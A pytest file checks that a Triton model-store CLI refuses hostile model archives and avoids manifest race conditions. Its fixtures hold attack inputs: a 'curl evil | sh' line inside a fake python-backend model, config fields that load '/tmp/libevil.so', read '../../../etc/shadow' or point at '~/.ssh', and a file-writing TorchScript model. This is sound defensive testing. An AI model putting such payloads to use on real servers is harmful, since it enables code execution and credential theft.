"""An archive is code the endpoint runs: `add` and `upload` publish only what the build itself would write,
exactly the bytes they checked, and never leave the live manifest naming a deleted archive."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import tarfile
from pathlib import Path
from typing import Any

import pytest
from hostile_archives import named_by_content, write_file_writing_torchscript, write_layout
from store_support import BUCKET, SentHeaders, one_line_error, passing_report, write_build

from triton_mme.cli import main
from triton_mme.core.files import file_sha256
from triton_mme.core.manifest import MANIFEST_FILE_NAME, Manifest
from triton_mme.core.serving_report import ArchiveServing, ServingReport
from triton_mme.store import publish
from triton_mme.store.location import ModelStoreClient
from triton_mme.store.operations import add_archive, remove_archive
from triton_mme.store.publish import PublishError, read_published_manifest


def _keys(s3: Any, prefix: str = "") -> list[str]:
    return [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=prefix).get("Contents", [])]


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore[union-attr]


def _repacked(
    built: tuple[Path, Manifest], directory: Path, extra_config: str, *, name: str = "tiny-cnn"
) -> Path:
    """The built tiny-cnn ONNX archive with `extra_config` appended to its config.pbtxt, named by content."""
    out, manifest = built
    members = _members(out / manifest.find("tiny-cnn", "onnx").target_model)
    config = members["tiny-cnn-onnx/config.pbtxt"].decode() + extra_config
    archive = write_layout(
        directory / "a.tar.gz",
        config=config,
        model=members["tiny-cnn-onnx/1/model.onnx"],
        model_dir=f"{name}-onnx",
    )
    return named_by_content(archive, name, "onnx")


def _add(archive: Path, *arguments: str) -> int:
    return main(["add", str(archive), "--bucket", BUCKET, "--name", "m", *arguments])


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (
            'model_operations { op_library_filename: "/tmp/libevil.so" }\n',
            "field model_operations.op_library_filename is not one the build writes for onnx",
        ),
        (
            'parameters { key: "EXECUTION_ENV_PATH" '
            'value { string_value: "$$TRITON_MODEL_DIRECTORY/e.tar.gz" } }\n',
            "parameters key 'EXECUTION_ENV_PATH' is not one the build writes for onnx",
        ),
        (
            'optimization { execution_accelerators { gpu_execution_accelerator { name: "tensorrt" '
            'parameters { key: "trt_engine_cache_path" value: "/home/user/.ssh" } } } }\n',
            "gpu_execution_accelerator parameter 'trt_engine_cache_path' '/home/user/.ssh' is not the "
            "build's engine cache",
        ),
        (
            'model_warmup { name: "w" batch_size: 1 inputs { key: "input" value { data_type: TYPE_FP32 '
            'dims: [3, 64, 64] input_data_file: "../../../etc/shadow" } } }\n',
            "field model_warmup.inputs.input_data_file is not one the build writes for onnx",
        ),
        (
            'model_repository_agents { agents { name: "checksum" } }\n',
            "field model_repository_agents.agents.name is not one the build writes for onnx",
        ),
    ],
)
def test_add_refuses_config_fields_the_build_never_writes(
    s3: Any,
    built: tuple[Path, Manifest],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    extra: str,
    message: str,
) -> None:
    archive = _repacked(built, tmp_path, extra, name="m")

    assert _add(archive) == 1
    error = one_line_error(capsys)
    assert error.startswith(f"error: {archive.name}: ")
    assert message in error
    assert _keys(s3) == []


def test_add_refuses_a_model_directory_and_config_name_outside_the_naming(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = _repacked(built, tmp_path, "", name="tiny-cnn")
    renamed = archive.rename(archive.with_name(archive.name.replace("tiny-cnn", "other", 1)))

    assert _add(renamed) == 1
    assert "the name says model 'other' but the archive's model directory is 'tiny-cnn-onnx'" in (
        one_line_error(capsys)
    )
    assert _keys(s3) == []


def test_allow_field_admits_a_harmless_field_but_never_one_that_loads_code(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = _repacked(built, tmp_path, "version_policy { latest { num_versions: 1 } }\n")

    assert _add(archive) == 1
    assert "field version_policy.latest.num_versions is not one the build writes" in one_line_error(capsys)
    assert _add(archive, "--allow-field", "model_operations") == 1
    assert "--allow-field 'model_operations': this field names files or code" in one_line_error(capsys)
    assert _keys(s3) == []

    assert _add(archive, "--allow-field", "version_policy") == 0
    assert _keys(s3, "models/") == [f"models/{archive.name}"]


@pytest.mark.slow
def test_add_refuses_a_torchscript_model_that_writes_files_before_running_it(
    s3: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "operator-file.txt"
    victim.write_bytes(b"original contents")
    archive = write_file_writing_torchscript(tmp_path, victim)

    assert _add(archive) == 1
    assert (
        "model.pt code 'model/code/__torch__/file_writer.py' line 10: uses operator aten::from_file, which "
        "the build's exporters never produce" in one_line_error(capsys)
    )
    assert victim.read_bytes() == b"original contents"
    assert _keys(s3) == []

    assert main(["verify", str(archive)]) == 1
    assert "aten::from_file" in one_line_error(capsys)
    assert victim.read_bytes() == b"original contents"


def _tensorrt_archive(directory: Path) -> Path:
    config = (
        'name: "m-tensorrt"\nplatform: "tensorrt_plan"\nmax_batch_size: 2\n'
        'input { name: "input" data_type: TYPE_FP32 dims: [4] }\n'
        'output { name: "output" data_type: TYPE_FP32 dims: [4] }\n'
    )
    archive = write_layout(
        directory / "t.tar.gz",
        config=config,
        model=b"arbitrary bytes, no plan",
        model_dir="m-tensorrt",
        model_file="model.plan",
    )
    return named_by_content(archive, "m", "tensorrt")


def _report_for(path: Path, directory: Path, **served: Any) -> Path:
    """A report of `path` signed with this user's key, as `serving-check` writes it
    (tests/store/test_store_tensorrt_gate.py runs the command itself)."""
    from triton_mme.arguments import report_key_file
    from triton_mme.core.report_key import signing_key

    archive = ArchiveServing(
        target_model=path.name, name="m", format="tensorrt", sha256=file_sha256(path), **served
    )
    report = ServingReport(
        manifest_sha256="0" * 64, server="sagemaker-tritonserver on L4", archives=(archive,)
    )
    written = directory / "serving-report.json"
    written.write_text(report.signed(signing_key(report_key_file())).to_json())
    return written


def test_add_refuses_a_tensorrt_plan_nobody_loaded(
    s3: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = _tensorrt_archive(tmp_path)

    assert _add(archive) == 1
    assert "a TensorRT plan cannot be loaded here; allowed with --serving-report FILE" in one_line_error(
        capsys
    )
    skipped = _report_for(archive, tmp_path, passed=False, skipped="TensorRT on the CPU stand-in")
    assert _add(archive, "--serving-report", str(skipped)) == 1
    assert "the serving report says it did not pass" in one_line_error(capsys)
    assert _keys(s3) == []


@pytest.mark.parametrize("evidence", ["report", "flag"])
def test_add_publishes_a_tensorrt_plan_with_a_passing_report_or_marked_unchecked(
    s3: Any, tmp_path: Path, evidence: str
) -> None:
    archive = _tensorrt_archive(tmp_path)
    if evidence == "report":
        arguments = ["--serving-report", str(_report_for(archive, tmp_path, passed=True, load_seconds=1.0))]
    else:
        arguments = ["--unchecked-tensorrt"]

    assert _add(archive, *arguments) == 0
    record = read_published_manifest(ModelStoreClient(s3, BUCKET)).find("m", "tensorrt")  # type: ignore[union-attr]
    expected = "serving report 0000000000000000" if evidence == "report" else "unchecked: "
    assert str(record.details["checked"]).startswith(expected)


def _hostile_upload(
    built: tuple[Path, Manifest], directory: Path, archive: Path, record_changes: dict
) -> None:
    out, manifest = built
    shutil.copytree(out, directory)
    shutil.copy(archive, directory / archive.name)
    document = json.loads(manifest.to_json())
    document["archives"][0].update(
        target_model=archive.name,
        sha256=file_sha256(archive),
        size_bytes=archive.stat().st_size,
        **record_changes,
    )
    (directory / MANIFEST_FILE_NAME).write_text(json.dumps(document), encoding="utf-8")


def test_upload_refuses_a_python_backend_archive(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = write_layout(
        tmp_path / "p.tar.gz",
        config='name: "tiny-cnn-onnx"\nbackend: "python"\nmax_batch_size: 2\n',
        model=b"import os\nos.system('curl evil | sh')\n",
        model_dir="tiny-cnn-onnx",
        model_file="model.py",
    )
    archive = named_by_content(archive, "tiny-cnn", "onnx")
    _hostile_upload(built, tmp_path / "build", archive, {})

    assert main(["upload", "--from", str(tmp_path / "build"), "--bucket", BUCKET]) == 1
    assert f"error: {archive.name}: model file 'model.py'; allowed model.onnx" in one_line_error(capsys)
    assert _keys(s3) == []


def test_upload_refuses_an_archive_whose_name_claims_another_model_format_and_hash(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, manifest = built
    onnx = out / manifest.find("tiny-cnn", "onnx").target_model
    disguised = tmp_path / "tiny-roberta-torchscript-0000000000000000.tar.gz"
    shutil.copy(onnx, disguised)
    _hostile_upload(built, tmp_path / "build", disguised, {})

    assert main(["upload", "--from", str(tmp_path / "build"), "--bucket", BUCKET]) == 1
    assert "the name claims content hash 0000000000000000 but the file's sha256 starts with" in (
        one_line_error(capsys)
    )
    assert _keys(s3) == []


def test_add_publishes_the_bytes_it_checked_even_if_the_file_changes_after_the_check(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, manifest = built
    archive = Path(shutil.copy(out / manifest.find("tiny-cnn", "onnx").target_model, tmp_path))
    checked = file_sha256(archive)
    from triton_mme.model_build import verify

    original = verify.verify_archive

    def verify_then_swap(path: Path, **options: Any) -> Any:
        report = original(path, **options)
        archive.write_bytes(b"swapped after the check")
        return report

    monkeypatch.setattr(verify, "verify_archive", verify_then_swap)
    assert main(["add", str(archive), "--bucket", BUCKET, "--name", "vision"]) == 0

    body = s3.get_object(Bucket=BUCKET, Key=f"models/{archive.name}")["Body"].read()
    assert file_sha256(_write(tmp_path / "published", body)) == checked


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_upload_publishes_the_bytes_it_checked_even_if_the_file_changes_after_the_check(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, manifest = built
    shutil.copytree(out, tmp_path / "build")
    record = manifest.archives[0]
    given = tmp_path / "build" / record.target_model
    original = publish.file_sha256

    def hash_then_swap(path: Path) -> str:
        digest = original(path)
        if path.name == record.target_model:
            given.write_bytes(b"x" * record.size_bytes)  # same size, other bytes
        return digest

    monkeypatch.setattr(publish, "file_sha256", hash_then_swap)
    assert main(["upload", "--from", str(tmp_path / "build"), "--bucket", BUCKET]) == 0

    body = s3.get_object(Bucket=BUCKET, Key=f"models/{record.target_model}")["Body"].read()
    assert file_sha256(_write(tmp_path / "published", body)) == record.sha256


def _dangling(s3: Any) -> list[str]:
    manifest = read_published_manifest(ModelStoreClient(s3, BUCKET)) or Manifest()
    present = set(_keys(s3, "models/"))
    return [t for t in sorted(manifest.target_models) if f"models/{t}" not in present]


def _published_archive(s3: Any, built: tuple[Path, Manifest], tmp_path: Path) -> Path:
    out, manifest = built
    archive = Path(shutil.copy(out / manifest.find("tiny-cnn", "onnx").target_model, tmp_path))
    s3.upload_file(str(archive), BUCKET, f"models/{archive.name}")
    return archive


def test_a_remove_between_adds_check_and_manifest_write_leaves_no_dangling_manifest(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    archive = _published_archive(s3, built, tmp_path)
    original = publish.check_named_objects
    outcomes: list[str] = []

    def check_then_remove(*arguments: Any, **options: Any) -> None:
        original(*arguments, **options)
        if not outcomes:
            try:
                remove_archive(ModelStoreClient(s3, BUCKET), archive.name)
                outcomes.append("removed")
            except PublishError as error:
                outcomes.append(str(error))

    monkeypatch.setattr(publish, "check_named_objects", check_then_remove)
    add_archive(ModelStoreClient(s3, BUCKET), archive, name="vision")

    assert _dangling(s3) == []
    assert outcomes and "an add or upload of" in outcomes[0]


ADD_STEPS = ["uploaded", "announced", "checked", "written"]
REMOVE_STEPS = ["announced", "checked", "deleted"]


@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize("step", ADD_STEPS)
def test_a_remove_at_any_step_of_add_leaves_no_dangling_manifest(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, step: str, force: bool
) -> None:
    archive = _published_archive(s3, built, tmp_path)
    seen: list[list[str]] = []

    def remove_now(name: str) -> None:
        seen.append(_dangling(s3))
        if name == step:
            # Refused when the add is announced or the manifest names it; either way nothing dangles.
            with contextlib.suppress(PublishError):
                remove_archive(ModelStoreClient(s3, BUCKET), archive.name, force=force)
        seen.append(_dangling(s3))

    with contextlib.suppress(PublishError):  # refused when the remove is announced
        add_archive(ModelStoreClient(s3, BUCKET), archive, name="vision", step=remove_now)
    assert seen and all(dangling == [] for dangling in seen)
    assert _dangling(s3) == []
    assert _keys(s3, "manifests/intents/") == []


@pytest.mark.parametrize("step", REMOVE_STEPS)
def test_an_add_at_any_step_of_remove_leaves_no_dangling_manifest(
    s3: Any, built: tuple[Path, Manifest], tmp_path: Path, step: str
) -> None:
    archive = _published_archive(s3, built, tmp_path)
    seen: list[list[str]] = []

    def add_now(name: str) -> None:
        seen.append(_dangling(s3))
        if name == step:
            with contextlib.suppress(PublishError):
                add_archive(ModelStoreClient(s3, BUCKET), archive, name="vision")
        seen.append(_dangling(s3))

    with contextlib.suppress(PublishError):
        remove_archive(ModelStoreClient(s3, BUCKET), archive.name, step=add_now)
    assert seen and all(dangling == [] for dangling in seen)
    assert _dangling(s3) == []
    assert _keys(s3, "manifests/intents/") == []


def test_add_refuses_a_deeply_nested_live_manifest_before_uploading(
    s3: Any, built: tuple[Path, Manifest], capsys: pytest.CaptureFixture[str]
) -> None:
    out, manifest = built
    s3.put_object(Bucket=BUCKET, Key="manifests/manifest.json", Body=b"[" * 100_000)
    archive = out / manifest.find("tiny-cnn", "onnx").target_model

    assert _add(archive) == 1
    assert one_line_error(capsys) == (
        "error: s3://model-store/manifests/manifest.json: not a valid manifest (nested 100000 levels deep; "
        "allowed at most 64)"
    )
    assert _keys(s3, "models/") == []


def test_upload_refuses_a_deeply_nested_build_manifest(
    s3: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tmp_path.joinpath(MANIFEST_FILE_NAME).write_text('{"archives": ' + "[" * 100_000)

    assert main(["upload", "--from", str(tmp_path), "--bucket", BUCKET]) == 1
    assert "not a valid build manifest (nested 100001 levels deep; allowed at most 64)" in one_line_error(
        capsys
    )
    assert _keys(s3) == []


def test_an_s3_error_on_every_archive_put_is_one_line_and_publishes_no_manifest(
    s3: Any,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    fake_archives: None,
) -> None:
    import boto3
    from botocore.awsrequest import AWSResponse

    write_build(tmp_path, {"resnet-onnx-aaaaaaaaaaaaaaaa.tar.gz": b"onnx archive bytes"})
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")

    class Body(io.BytesIO):
        def stream(self, **_: Any) -> Any:
            yield self.getvalue()

    def internal_error(request: Any, **_: Any) -> AWSResponse | None:
        if "/models/" not in request.url:  # the upload's intents go through
            return None
        return AWSResponse("https://s3", 500, {}, Body(b"<Error><Code>InternalError</Code></Error>"))

    real_client = boto3.client

    def failing_client(*arguments: Any, **options: Any) -> Any:
        client = real_client(*arguments, **options)
        client.meta.events.register("before-send.s3.PutObject", internal_error)
        return client

    monkeypatch.setattr(boto3, "client", failing_client)
    assert main(["upload", "--from", str(tmp_path), "--bucket", BUCKET]) == 1
    error = one_line_error(capsys)
    assert error.startswith("error: s3://model-store: ") and "the manifest was not changed" in error
    assert _keys(s3, "manifests/") == []


def test_upload_checks_existence_with_one_listing_instead_of_a_head_per_record(
    s3: Any, tmp_path: Path, fake_archives: None
) -> None:
    archives = {f"m{i}-onnx-{i:016x}.tar.gz": f"archive {i}".encode() for i in range(40)}
    write_build(tmp_path, archives)
    sent = SentHeaders(s3)

    publish.upload_build(ModelStoreClient(s3, BUCKET), tmp_path)

    assert len(sent.of("HeadObject")) < 10
    assert len(_keys(s3, "models/")) == 40


def test_a_serving_report_cannot_count_a_skipped_archive_as_passed(tmp_path: Path) -> None:
    from triton_mme.core.serving_report import ServingReportError

    manifest = Manifest()
    document = json.loads(passing_report(manifest).to_json())
    document["archives"] = [
        {"target_model": "m-tensorrt-0000000000000000.tar.gz", "name": "m", "format": "tensorrt",
         "passed": True, "skipped": "TensorRT plan on the CPU stand-in"}
    ]  # fmt: skip
    with pytest.raises(ServingReportError, match="an archive that was skipped or failed cannot have passed"):
        ServingReport.from_json(json.dumps(document))
